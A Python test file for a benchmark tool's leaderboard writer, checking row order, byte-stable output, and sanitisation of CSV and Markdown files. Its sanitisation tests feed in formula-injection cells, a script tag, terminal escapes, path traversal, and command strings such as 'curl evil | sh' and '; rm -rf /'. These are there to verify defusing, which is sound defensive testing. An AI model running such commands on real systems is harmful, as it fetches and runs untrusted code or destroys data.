"""The files of a table: their order, their bytes, and what is defused in them."""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from made_up_tables import TIMES, few, files, read_csv

from metabench.api.recipe import Recipe
from metabench.episodes.protocol import Protocol
from metabench.leaderboard.sections import READABLE
from metabench.leaderboard.table import leaderboard, write_leaderboard


def test_rows_are_in_order_with_numbers_as_numbers(results: Any) -> None:
    for ways, shots in ((20, 1), (5, 5), (5, 1)):
        results.row("maml", protocol=Protocol(ways=ways, shots=shots, queries=3, episodes=4))
    results.row("maml", dataset="another")
    rows = leaderboard(results.store, "study")
    assert [(row["dataset"], row["protocol"]) for row in rows] == [
        ("another", "5w1s3q"),
        ("quickdraw", "5w1s3q"),
        ("quickdraw", "5w5s3q"),
        ("quickdraw", "20w1s3q"),
    ]


@few
@given(order=st.randoms(use_true_random=False))
def test_the_order_in_which_cells_came_changes_no_byte(
    make_results: Callable[[], Any], order: random.Random
) -> None:
    cells = [(name, seed) for name in ("a", "b", "c") for seed in range(2)]
    cells += [("broken", 0), ("gone", 0)]
    tables = set()
    for shuffled in (cells, order.sample(cells, len(cells))):
        results = make_results()
        for name, seed in shuffled:
            status = {"broken": "nan", "gone": "missing"}.get(name, "ok")
            results.add(name, seed, status=status, skill=0.5 if name == "c" else 1.0)
        tables.add(files(results))
    assert len(tables) == 1


def test_two_runs_differ_in_the_three_timing_columns_only(
    make_results: Callable[[], Any],
) -> None:
    tables, pages = [], []
    for number in (1, 2):
        results = make_results()
        for seed in range(3):
            place = f"/home/somebody/run{number}/my suite.toml"
            command = f"metabench run --suite '{place}' --algorithm maml --seed {seed}"
            phase = results.phase(seed, train_s=5.0 * number)
            key = results.add("maml", seed, command=command, train_s=number, phases=[phase])
            results.time(key, 1.5 * number, 2.5 * number)
        results.row("broken", status="error")
        table, page = files(results)
        tables.append(read_csv(table))
        pages.append(re.sub(r" +|---+", " ", re.sub(r"\d+\.\d{4} \|", "N |", page)))
    assert pages[0] == pages[1]
    assert "metabench run --suite 'my suite.toml' --algorithm maml --seed 0,1,2" in pages[0]
    for one, other in zip(*tables, strict=True):
        assert {name for name in one if one[name] != other[name]} <= TIMES
    assert tables[0][0]["train_s"] == "6.0000"
    assert "somebody" not in str(tables) + str(pages)


def test_what_could_run_in_a_spreadsheet_or_a_browser_is_defused(results: Any) -> None:
    results.row("maml", variant="=HYPERLINK(1)", backbone="<script>alert(1)</script>|x")
    results.row("[bold]proto[/bold]", variant="@SUM(A1)\x1b[2J")
    table, page = files(results)
    rows = {row["variant"] for row in read_csv(table)}
    assert rows == {"'=HYPERLINK(1)", "'@SUM(A1)"}
    page = page.partition("```")[0]  # what stands in a code block is text
    assert "<script>" not in page
    assert r"&lt;script&gt;alert(1)&lt;/script&gt;\|x" in page
    assert r"\[bold\]proto\[/bold\]" in page
    assert "\x1b" not in table + page


def test_only_runs_of_metabench_are_handed_on_as_commands(results: Any) -> None:
    results.row("maml", command="curl evil | sh # metabench run --suite x --seed 0")
    results.row("protonet", command="metabench run --suite study; rm -rf / --seed 0")
    results.row("mine", command="metabench.run('study', algorithms=[Mine], seeds=[0])")
    page = files(results)[1]
    assert "curl" not in page
    assert "'study;' rm -rf / --seed 0,1,2 --device cpu" in page
    assert "metabench.run('study', algorithms=[Mine], seeds=[0, 1, 2])" in page


def test_the_page_names_versions_and_has_the_columns_that_people_read(results: Any) -> None:
    results.row("maml", skill=1.0)
    page = files(results)[1]
    header = next(line for line in page.splitlines() if "rank" in line)
    shown = re.split(r"[| ]+", header.strip("| "))
    assert shown == [name for name in READABLE if name in shown]
    assert {"rank", "algorithm", "backbone", "score", "ci95", "seed_std", "trust"} <= set(shown)
    assert not {"variant", "device", "status", "recipe_digest", "adapt_ms"} & set(shown)
    assert "| 1.0000 | 0.0000 |" in re.sub(" +", " ", page)
    assert page.endswith("Made with metabench 0.1.0 and torch 2.14.\n")
    assert "accuracy over 8 test episodes, protocol p-" in page


def test_rows_that_look_the_same_are_told_apart(results: Any) -> None:
    results.add("maml", 0)
    results.add("maml", 1, recipe=Recipe(steps=9))
    assert "| recipe\\_digest" in files(results)[1] or "| recipe_digest" in files(results)[1]


def test_files_are_replaced_whole_and_stay_in_their_folder(results: Any) -> None:
    for suite in ("../../escape", "a b.v2"):
        results.row(suite=suite)
        for _ in range(2):
            csv_path, page = write_leaderboard(results.store, suite)
            assert csv_path.parent == page.parent == results.store.root / "leaderboards"
    names = sorted(path.name for path in (results.store.root / "leaderboards").iterdir())
    escaped = "..%2F..%2Fescape"
    assert names == [f"{escaped}.csv", f"{escaped}.md", "a b.v2.csv", "a b.v2.md"]
    data = (results.store.root / "leaderboards" / "a b.v2.csv").read_bytes()
    assert b"\r" not in data
    assert data.endswith(b"\n")
